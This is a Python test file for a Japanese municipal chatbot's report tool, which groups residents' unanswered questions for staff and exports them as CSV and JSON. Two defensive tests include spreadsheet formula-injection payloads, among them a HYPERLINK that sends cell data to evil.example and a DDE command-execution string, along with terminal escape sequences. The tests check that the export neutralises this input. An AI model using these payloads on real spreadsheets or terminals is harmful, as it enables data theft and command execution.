"""nakabot report: unanswered questions grouped for staff, and the review states."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import sys
from types import SimpleNamespace

import pytest
from rapidfuzz import fuzz
from test_cli import run

from bot import report
from bot.cli import main
from bot.store import Store, Unanswered, open_store

NOV = dt.datetime(2026, 11, 2, 1, tzinfo=dt.UTC)  # 10:00 in Japan


@pytest.fixture
def store(_own_database) -> Store:
    store = open_store(f"sqlite:///{_own_database}")  # the same file the CLI reads (DATABASE_URL)
    asked = [
        ("粗大ごみの出し方", "粗大ゴミノ出シ方", "k1", 0),
        ("粗大ゴミを出したい", "粗大ゴミヲ出シタイ", "k2", 1),
        ("粗大ごみの出し方", "粗大ゴミノ出シ方", "k1", 2),
        ("粗大ごみの出し方は？", "粗大ゴミノ出シ方ハ", "k3", 3),
        ("今日の天気は", "今日ノ天気ハ", "k1", 4),
        ("マイナンバー［個人番号］を忘れた", "マイナンバ個人番号ヲ忘レタ", "k4", 5),
    ]
    for text, normalized, resident, day in asked:
        store.record_unanswered(text=text, normalized=normalized, candidates=[("gomi", 40.0)],
                                kind="fallback", answer_id=None, score=40.0, resident=resident,
                                at=NOV + dt.timedelta(days=day))
    return store


def test_similar_questions_form_one_group_most_frequent_first(store):
    groups = report.group(store.unanswered())

    assert [g.count for g in groups] == [4, 1, 1]
    gomi = groups[0]
    assert gomi.residents == 3
    assert gomi.examples[0] == "粗大ごみの出し方"  # the most frequent wording leads
    assert set(gomi.examples) == {"粗大ごみの出し方", "粗大ゴミを出したい", "粗大ごみの出し方は？"}
    assert (gomi.first_seen, gomi.last_seen) == ("2026-11-02 10:00", "2026-11-05 10:00")  # Japan time
    assert gomi.kinds == {"fallback": 4}
    assert gomi.candidates == (("gomi", 40.0),)


def test_a_group_keeps_its_key_as_more_questions_arrive(store):
    before = report.group(store.unanswered())[0].key
    store.record_unanswered(text="粗大ごみの出し方", normalized="粗大ゴミノ出シ方", candidates=[],
                            kind="fallback", answer_id=None, score=10.0, resident="k9")

    assert report.group(store.unanswered())[0].key == before


def test_report_prints_groups_with_examples(store, capsys, monkeypatch):
    code, out, _ = run(capsys, monkeypatch, "report")

    assert code == 0
    assert "未回答の質問: 3 グループ・6 件" in out
    assert "4件・3人  2026-11-02 10:00 〜 2026-11-05 10:00" in out
    assert "「粗大ごみの出し方」" in out


def test_report_can_leave_out_what_staff_typed_into_the_simulator(store, capsys, monkeypatch):
    store.record_unanswered(text="テストです", normalized="テストデス", candidates=[], kind="fallback",
                            answer_id=None, score=5.0, resident="s1", channel="simulator")

    _, line_only, _ = run(capsys, monkeypatch, "report", "--channel", "line")
    _, simulator_only, _ = run(capsys, monkeypatch, "report", "--channel", "simulator")
    _, both, _ = run(capsys, monkeypatch, "report")
    assert "テストです" not in line_only and "6 件" in line_only
    assert "テストです" in simulator_only and "1 件" in simulator_only
    assert "テストです" in both and "7 件" in both


def test_report_json_and_csv_carry_the_same_groups(store, capsys, monkeypatch):
    _, out, _ = run(capsys, monkeypatch, "report", "--json", "--since", "2026-11-03", "--until", "2026-11-04")
    data = json.loads(out)
    assert (data["since"], data["until"]) == ("2026-11-03", "2026-11-04")
    assert [g["count"] for g in data["groups"]] == [2]  # the 3rd and 4th of November, Japan time
    assert data["groups"][0]["candidates"] == [{"id": "gomi", "score": 40.0}]

    _, out, _ = run(capsys, monkeypatch, "report", "--csv")
    rows = list(csv.DictReader(io.StringIO(out.removeprefix(report.BOM))))
    assert list(rows[0]) == report.CSV_COLUMNS
    assert [int(r["件数"]) for r in rows] == [4, 1, 1]
    assert rows[0]["質問の例1"] == "粗大ごみの出し方"


def test_the_csv_opens_in_excel_on_japanese_windows_with_titles(store, capsys, monkeypatch, catalogue):
    title = catalogue.procedure("juminhyo").title
    store.record_unanswered(text="住民票がほしい", normalized="住民票ガホシイ",
                            candidates=[("juminhyo", 51.0)], kind="procedure",
                            answer_id="juminhyo", score=51.0, resident="k5", at=NOV)
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="cp932"))  # a Windows console

    assert main(["report", "--csv"]) == 0

    sys.stdout.flush()
    data = sys.stdout.buffer.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel does not guess Shift-JIS
    text = data.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header[:6] == ["記号", "件数", "人数", "最初", "最後", "ボットの返事"]
    juminhyo = next(row for row in rows if row[8] == "住民票がほしい")
    assert juminhyo[6] == title and "juminhyo" not in ",".join(juminhyo)
    assert juminhyo[5] == f"手続きを案内（自信が低い）「{title}」 1件"
    assert juminhyo[7] == "未対応 1件"


def test_marking_a_group_fixed_hides_it_unless_all_is_asked(store, capsys, monkeypatch):
    key = report.group(store.unanswered())[0].key

    code, out, _ = run(capsys, monkeypatch, "report", "mark", key, "fixed", "--note", "例文を追加")
    assert code == 0 and "4 件" in out

    _, out, _ = run(capsys, monkeypatch, "report", "--json")
    assert [g["count"] for g in json.loads(out)["groups"]] == [1, 1]
    _, out, _ = run(capsys, monkeypatch, "report", "--json", "--all")
    assert json.loads(out)["groups"][0]["states"] == {"fixed": 4}


def test_one_question_can_be_ignored_by_its_id(store, capsys, monkeypatch):
    weather = next(r for r in store.unanswered() if r.text == "今日の天気は")

    assert run(capsys, monkeypatch, "report", "mark", str(weather.id), "ignored")[0] == 0
    assert "今日の天気は" not in run(capsys, monkeypatch, "report")[1]


def test_an_unknown_group_is_an_error_that_says_what_to_use(store, capsys, monkeypatch):
    code, _, err = run(capsys, monkeypatch, "report", "mark", "gffffff", "fixed")
    assert code == 1 and "nakabot report" in err


def test_an_empty_store_says_so_and_which_store_it_read(capsys, monkeypatch, _own_database):
    open_store(f"sqlite:///{_own_database}")  # as the server makes it at its start

    code, out, err = run(capsys, monkeypatch, "report")

    assert code == 0 and "未回答の質問はありません" in out
    assert f"記録: SQLite {_own_database}" in err


def test_a_report_without_the_servers_store_refuses_and_creates_none(capsys, monkeypatch, _own_database):
    code, out, err = run(capsys, monkeypatch, "report")

    assert code == 1 and out == ""
    assert "記録（データベース）がありません" in err and str(_own_database) in err and "DATABASE_URL" in err
    assert not _own_database.exists()  # was: an empty database, and 「未回答の質問はありません」
    assert run(capsys, monkeypatch, "report", "mark", "g123456", "new")[0] == 1
    assert not _own_database.exists()


def test_a_group_marked_by_mistake_is_put_back_by_its_key(store, capsys, monkeypatch):
    key = report.group(store.unanswered())[0].key
    assert run(capsys, monkeypatch, "report", "mark", key, "ignored")[0] == 0

    code, out, err = run(capsys, monkeypatch, "report", "mark", key, "new")

    assert code == 0 and "4 件" in out, err  # was 「見つかりません」: only numeric ids worked
    assert report.group(store.unanswered())[0].key == key
    assert [e.action for e in store.audit_log()] == ["unanswered.mark", "unanswered.mark"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_csv_cells_from_residents_never_start_a_formula(capsys, monkeypatch, _own_database):
    store = open_store(f"sqlite:///{_own_database}")
    for text in HOSTILE:
        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
                                answer_id=None, score=5.0, resident="k1", at=NOV)

    _, out, _ = run(capsys, monkeypatch, "report", "--csv")

    rows = list(csv.DictReader(io.StringIO(out.removeprefix(report.BOM), newline="")))
    examples = [row[f"質問の例{n}"] for row in rows for n in (1, 2, 3) if row[f"質問の例{n}"]]
    assert sorted(examples) == sorted("'" + text for text in HOSTILE)  # shown as text, kept whole
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
                   for row in csv.reader(io.StringIO(out.removeprefix(report.BOM), newline=""))
                   for cell in row)


def test_the_text_report_prints_no_terminal_escape_sequence(capsys, monkeypatch, _own_database):
    store = open_store(f"sqlite:///{_own_database}")
    link = "\x1b]8;;http://evil.example/\x1b\\住民票\x1b]8;;\x1b\\"  # OSC 8: a link showing 住民票
    for text in (link, "\x1b[2J\x1b[H画面を消す", "改行\nして\x07ベル\x9b31mC1"):
        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
                                answer_id=None, score=5.0, resident="k1", at=NOV)

    _, out, _ = run(capsys, monkeypatch, "report")

    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "「住民票」" in out and "「画面を消す」" in out and "「改行 してベルC1」" in out
    assert "evil.example" not in out


def test_grouping_compares_each_wording_with_a_bounded_number_of_leaders(monkeypatch):
    # Distinct texts from any LINE friend each became a leader that every later wording
    # was compared with: n wordings, n²/2 comparisons (20,000: 81 s per /admin view).
    calls = 0

    def ratio(a: str, b: str, **_: object) -> float:
        nonlocal calls
        calls += 1
        return fuzz.ratio(a, b)

    monkeypatch.setattr(report, "fuzz", SimpleNamespace(ratio=ratio))
    monkeypatch.setattr(report, "LEADERS_COMPARED", 40, raising=False)
    rows = [store_row(n, text) for n, text in enumerate(random_wordings(800, seed=7), start=1)]

    groups = report.group(rows)

    assert sum(g.count for g in groups) == 800
    assert calls <= 800 * 40  # was 800 * 799 / 2 = 319,600


def test_a_wording_like_a_frequent_group_still_joins_it_among_many_others():
    rows = [store_row(n, text) for n, text in enumerate(random_wordings(1000, seed=8), start=1)]
    rows += [store_row(2000 + n, "粗大ゴミノ出シ方") for n in range(3)]
    rows.append(store_row(3000, "粗大ゴミノ出シ方ハ"))

    gomi = report.group(rows)[0]

    assert gomi.count == 4 and gomi.normalized == "粗大ゴミノ出シ方"


def random_wordings(count: int, seed: int) -> list[str]:
    chance = random.Random(seed)
    return ["".join(chance.choice("アイウエオカキクケコサシスセソ") for _ in range(20)) for _ in range(count)]


def store_row(number: int, normalized: str) -> Unanswered:
    return Unanswered(number, "2026-11-02T01:00:00.000000Z", "line", normalized, normalized, (), "fallback",
                      None, 10.0, f"k{number}", "new", None)


def test_different_notices_are_different_groups_and_one_topic_is_one():
    wordings = ["転入届", "婚姻届", "粗大ゴミノ出シ方", "粗大ゴミヲ出シタイ", "粗大ゴミノ出シ方ハ"]
    groups = report.group([store_row(n, w) for n, w in enumerate(wordings)])

    together = sorted(sorted(g.examples) for g in groups)
    gomi = ["粗大ゴミノ出シ方", "粗大ゴミノ出シ方ハ", "粗大ゴミヲ出シタイ"]
    assert together == [["婚姻届"], gomi, ["転入届"]]
